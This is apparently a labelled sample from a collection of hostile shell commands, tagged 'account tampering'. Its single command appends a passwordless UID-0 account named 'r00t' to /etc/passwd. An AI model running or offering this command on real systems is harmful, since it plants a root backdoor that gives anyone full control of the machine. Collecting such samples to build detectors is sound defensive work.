# class: account tampering; style: echo
echo 'r00t::0:0:root:/root:/bin/bash' >> /etc/passwd
